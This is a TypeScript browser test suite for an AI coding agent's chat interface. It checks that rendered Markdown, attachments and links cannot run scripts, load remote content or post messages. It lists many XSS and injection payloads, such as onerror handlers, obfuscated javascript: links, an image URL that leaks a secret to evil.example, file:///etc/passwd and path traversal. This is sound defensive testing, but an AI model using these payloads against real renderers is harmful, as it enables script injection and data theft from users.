// Hostile Markdown and hostile names: nothing runs, loads, posts or opens anything except through the host.
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import type { Attachment } from "../../../src/core/events.ts";
import type { MentionSuggestion } from "../../../src/shared/protocol/chat.ts";
import { clickByScript, newest, ofType, openChat } from "../browser.ts";
import { call, change, event, model, result, snapshot, started, user } from "../states/events.ts";

interface Vector {
	id: string;
	markdown: string;
}

const own = [
	"![x](https://evil.example/?d=SECRET)",
	"![x](//evil.example/x.png) ![y](http://evil.example/y.svg 'title') ![z](data:image/svg+xml;base64,PHN2Zy8+)",
	"<img src=https://evil.example/x onerror=alert(1)><svg onload=alert(1)><script>alert(1)</script>",
	"<iframe src='https://evil.example'></iframe><object data=x></object><embed src=x><base href='https://evil.example/'>",
	"[a](javascript:alert(1)) [b](command:workbench.action.quit) [c](vscode://x/y) [d](file:///etc/passwd) [e](data:text/html,x) [f](blob:x)",
	"[a](java\tscript:alert(1)) [b](&#106;avascript:alert(1)) [c](\u0001javascript:alert(1)) [d](//evil.example) [e](https:evil.example)",
	"[a](https://github.com@evil.example/) [b](https:\\\\evil.example) [c](http://evil.example\\@github.com) <https://user:pw@evil.example>",
	"<a href='command:x' onclick=alert(1)>x</a> <form action='https://evil.example'><button formaction='command:x'>Allow</button></form>",
	"<style>@import url(https://evil.example)</style><link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
	"<div id=root class='primary card' style='position:fixed;inset:0'>Approve</div><math><mi xlink:href='command:x'>x</mi></math>",
	"<button data-url='https://evil.example' class='code-act' data-act='apply'>x</button><a data-url='https://evil.example'>y</a>",
	'```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
	"```js class=primary id=root\nconst a = '<img src=https://evil.example>';\n```",
	"| <img src=x onerror=alert(1)> | [x](command:y) |\n|---|---|\n| <script>alert(1)</script> | ![x](https://evil.example) |",
	"[x]: javascript:alert(1)\n\n[x] [y][x]\n\n[__proto__]: https://evil.example\n\n[__proto__] [constructor]",
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><img src=https://evil.example></template>',
	"<!--<img src=https://evil.example>--><![CDATA[<img src=x onerror=alert(1)>]]><?php x ?>",
];

/** Runs in the page: what of the rendered answer could act. */
function inspect() {
	const host = document.querySelector(".from-agent .markdown");
	const all = [...(host?.querySelectorAll("*") ?? [])];
	const complaints = [];
	for (const element of all) {
		const name = element.localName;
		if (/^(?:script|style|iframe|object|embed|form|input|svg|math|link|meta|base|template|audio|video|source)$/.test(name))
			complaints.push(name);
		if (name === "button" && !element.matches(".code > .code-bar > .code-acts > .code-act")) complaints.push("button");
		if (name === "img" && !element.getAttribute("src")?.startsWith("data:image/")) complaints.push("remote picture");
		for (const { name: attribute, value } of element.attributes) {
			if (/^on|^(?:style|id|href|srcset|formaction|name|for)$/i.test(attribute)) complaints.push(`${name} ${attribute}=${value}`);
			if (attribute === "data-url" && !/^https?:\/\/[^@\\]+$/.test(value)) complaints.push(`link to ${value}`);
			if (attribute === "class" && !/^(?:hljs-|language-|function_|class_|inherited__|code|table|block|link-|icon-button)/.test(value))
				complaints.push(`class ${value}`);
		}
	}
	return { complaints, links: all.filter((element) => element.matches("[data-url]")).length };
}

const file = "../shared/vectors/markdown.json";
const shared: Vector[] = existsSync(file) ? JSON.parse(readFileSync(file, "utf8")) : [];
const vectors: Vector[] = [...own.map((markdown, index) => ({ id: `own-${index + 1}`, markdown })), ...shared];

for (const way of ["in a finished answer", "in a streamed answer", "in a message of the person"] as const) {
	it(`hostile Markdown ${way} runs, loads and posts nothing (${vectors.length} vectors)`, async () => {
		const { chat, send, posted, errors, requests } = await openChat();
		for (const { id, markdown } of vectors) {
			const head = [user(`vector ${id}.`), started("planner")];
			const update =
				way === "in a finished answer"
					? snapshot([...head, model({ text: markdown })])
					: way === "in a streamed answer"
						? snapshot(head, {}, markdown)
						: snapshot([...head, user(markdown), model({ text: "ok" })]);
			const first = (update.events[0]?.seq ?? 1) - 1;
			for (const item of update.events) item.seq -= first;
			await posted();
			await send(update);
			await chat.waitForFunction(
				(count) => document.querySelectorAll(".message").length >= count,
				way === "in a message of the person" ? 3 : way === "in a streamed answer" && !markdown.trim() ? 1 : 2,
			);
			const { complaints } = await chat.evaluate(inspect);
			assert.deepEqual(complaints, [], id);
			assert.deepEqual(await posted(), [], `${id} posted`);
		}
		assert.deepEqual(requests, []);
		assert.deepEqual(errors, []);
	});
}

it("hostile text stays text in attachments, queue, lists, summaries, outputs and search results", async () => {
	const { chat, send, posted, errors, requests } = await openChat();
	const evil = "<img src=https://evil.example/x onerror=alert(1)><mark class=primary>x</mark> [a](command:x) @https://evil.example \"'>";
	const attachment = (kind: Attachment["kind"]): Attachment => ({ kind, label: evil, text: evil, path: evil });
	const kinds: MentionSuggestion["kind"][] = ["file", "folder", "symbol", "selection", "problems", "terminal", "changes", "url"];
	const events = [
		event("compacted", { archive: "../../../etc/passwd", summary: evil }),
		user(evil, {
			attachments: [...kinds, "conversation" as const].map(attachment),
			images: [{ blob: "f".repeat(64), size: 1, mime: "image/svg+xml" }],
		}),
		started("planner"),
		model({
			text: `Words\n\n\`\`\`ts ../../${evil}\nconst a = 1;\n\`\`\`\n\n${evil}`,
			thinking: evil,
			calls: [call("z1", evil, { path: evil })],
		}),
		result("z1", evil, { kind: "change", changes: [change(evil)] }),
		event("status", { level: "warning", text: evil }),
		event("question", {
			request: "qz",
			question: { question: evil, context: evil, options: [{ label: evil, value: "x", description: evil }] },
		}),
		event("ended", { outcome: "failed", error: evil }),
	];
	await send(
		snapshot(events, {
			suggestions: [evil],
			queued: [{ id: "q", text: evil, pictures: 0, state: "waiting", own: true }],
			slash: [{ name: evil, description: evil, argument: evil }],
			model: { id: evil, name: evil, why: evil, offline: true },
			agents: [{ id: "default", label: evil, icon: evil, color: "red;background:url(https://evil.example)" }],
			storage: evil,
		}),
	);
	await chat.getByText("evil.example").first().waitFor();
	await send({
		type: "picture",
		blob: "f".repeat(64),
		mime: "image/svg+xml",
		data: Buffer.from("<svg onload='alert(1)'/>").toString("base64"),
	});
	await send({ type: "hint", text: evil });
	await chat.getByRole("textbox", { name: "Message" }).pressSequentially("@e");
	await chat.waitForFunction(() => window.posted.some((message) => message.type === "suggest" && message.query === "e"));
	const { ask } = newest(ofType(await posted(), "suggest"));
	await send({
		type: "suggestions",
		ask,
		items: kinds.map((kind) => ({ kind, insert: `@${evil}`, label: evil, detail: evil, marks: [0, 1] })),
	});
	await chat.getByRole("option").first().waitFor();
	await chat.keyboard.press("Escape");
	await chat.keyboard.press("Control+f");
	await chat.getByRole("search").getByRole("textbox", { name: "Find" }).fill("<img src=");
	await chat.waitForFunction(() => (CSS.highlights.get("troupe-find")?.size ?? 0) > 0);
	const found = await chat.evaluate(() => {
		const all = [...document.querySelectorAll("#root *")];
		const attributes = all.flatMap((element) => [...element.attributes].filter(({ name }) => /^on|^srcset$|^href$|^action$/i.test(name)));
		const pictures = all.filter((element) => element.localName === "img" && !element.getAttribute("src")?.startsWith("data:image/"));
		return [
			all.filter((element) => /^(?:script|iframe|object|embed|form|mark|base)$/.test(element.localName)).length,
			attributes.map(({ name, value }) => `${name}=${value}`),
			pictures.map(({ outerHTML }) => outerHTML),
		];
	});
	assert.deepEqual(found, [0, [], []]);
	const own = (await posted()).filter(({ type }) => !["suggest", "showPicture", "ready"].includes(type));
	assert.deepEqual(own, []);
	assert.deepEqual([requests, errors], [[], []]);
});

it("a link shows its host when its text names another host", async () => {
	const { chat, send, posted } = await openChat();
	await send(
		snapshot([
			model({
				text: "[https://github.com](https://evil.example/?a=b) [docs](https://nodejs.org/api) https://example.com/x [aррӏе](https://аррӏе.com/)",
			}),
		]),
	);
	const links = chat.getByRole("link");
	assert.deepEqual(await links.allTextContents(), [
		"https://github.com (evil.example)",
		"docs (nodejs.org)",
		"https://example.com/x",
		"aррӏе (xn--80ak6aa92e.com)",
	]);
	assert.equal(await chat.locator(".link-differs").count(), 1);
	await posted();
	await links.nth(0).click();
	await links.nth(1).press("Enter");
	assert.deepEqual(await posted(), [
		{ type: "openLink", url: "https://evil.example/?a=b", text: "https://github.com (evil.example)" },
		{ type: "openLink", url: "https://nodejs.org/api", text: "docs (nodejs.org)" },
	]);
	await clickByScript(links.nth(2));
	assert.deepEqual(await posted(), [], "a click made by a script");
});
